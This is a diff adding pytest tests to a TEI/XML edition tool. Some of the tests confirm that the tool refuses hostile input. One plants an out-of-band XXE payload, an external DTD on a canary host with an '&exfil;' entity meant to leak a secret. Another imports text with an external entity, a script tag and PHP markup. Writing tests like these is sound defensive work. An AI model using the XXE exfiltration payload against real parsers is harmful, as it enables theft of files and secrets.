@@ -174,3 +174,49 @@ def test_a_pointer_is_located_at_its_own_attribute(edition):
     report = api.check(edition, use_tei_all=False)
     found = [d for d in report.errors if d.rule == "pointer" and "per:nobody-here" in d.message]
     assert [(d.line, d.column) for d in found] == [(line_number, line.index('ref="per:nobody-here"') + 1)]
+
+
+def test_serve_refuses_a_hostile_edition_before_serving(edition, canary, secret):
+    attack = in_first_sentence(with_doctype(valid_source(edition), f'<!DOCTYPE TEI SYSTEM "{canary.url}/oob.dtd">'),
+                               "&exfil;")
+    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
+    run = run_edition(edition, "serve", "--port", "0", timeout=120)
+    assert_refused(run, "xml-safety")
+    assert_nothing_outside(run, edition, secret, canary)
+
+
+def test_import_of_markup_like_text_stays_text(edition, tmp_path, canary):
+    received = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.url}/e">]>&e; <script>window.pwned=1</script> '
+                "]]> &amp; <?php x ?>\nSegunda línea.\n")
+    text = tmp_path / "markup.txt"
+    text.write_text(received, "utf-8")
+    run = run_edition(edition, "import", str(text), "--lang", "es", "--id", "markup")
+    assert run.returncode == 0, run.stderr
+    read_back = run_edition(edition, "text", "markup", trace=False)
+    assert read_back.stdout == received
+    tree_text = edition.source_path("markup").read_text("utf-8")
+    assert "<!ENTITY" not in tree_text and "<script" not in tree_text
+    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0
+
+
+def test_a_utf16_source_is_checked_built_and_annotated_whole(edition):
+    """Annotate kept neither the XML declaration nor a comment before the root of a
+    UTF-16 source, dropped what follows </TEI>, and --dry-run crashed on it."""
+    text = valid_source(edition).replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    text = text.replace("<TEI ", "<!-- before the root -->\n<TEI ", 1).rstrip("\n") + \
+        "\n<!-- after the root </TEI> -->\n<?edition-note kept?>\n"
+    source = edition.source_path("es-k")
+    source.write_bytes(text.encode("utf-16"))
+    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0
+    dry = run_edition(edition, "annotate", "--dry-run", "es-k", trace=False)
+    assert dry.returncode == 0, dry.stderr
+    assert "persName" in dry.stdout and source.read_bytes() == text.encode("utf-16")
+    assert run_edition(edition, "annotate", "es-k", trace=False).returncode == 0
+    data = source.read_bytes()
+    assert data.startswith(b"\xff\xfe") or data.startswith(b"\xfe\xff")
+    after = data.decode("utf-16")
+    assert after.startswith('<?xml version="1.0" encoding="UTF-16"?>\n<!-- before the root -->\n<TEI ')
+    assert after.endswith("</TEI>\n<!-- after the root </TEI> -->\n<?edition-note kept?>\n")
+    assert "persName" in after
+    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0
+    assert run_edition(edition, "build", "--html", trace=False).returncode == 0
